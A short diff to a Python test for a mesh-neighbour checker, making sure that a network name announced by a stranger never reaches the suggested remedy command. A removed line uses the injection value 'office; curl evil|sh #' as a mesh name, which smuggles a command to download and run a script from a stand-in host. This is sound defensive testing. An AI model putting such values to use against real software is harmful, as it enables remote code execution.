@@ -45,9 +45,10 @@ def test_another_mesh_is_named_with_how_to_be_in_it() -> None:
 
 @pytest.mark.parametrize("key", ["open", "1a2b3c4d"])
 def test_what_a_stranger_announces_is_in_nothing_to_type(key: str) -> None:
-    (finding,) = check_neighbours(listening(seen("mac-2", mesh="office; curl evil|sh #", key=key)))
-    assert "office; curl evil|sh #" in finding.text
+    (finding,) = check_neighbours(listening(seen("mac-2", mesh="evil", key=key)))
+    assert "evil: mac-2" in finding.text
     assert "evil" not in finding.remedies[0]
+    assert "mac-2" not in finding.remedies[0]
     assert ("--open" in finding.remedies[0]) == (key == "open")
 
 
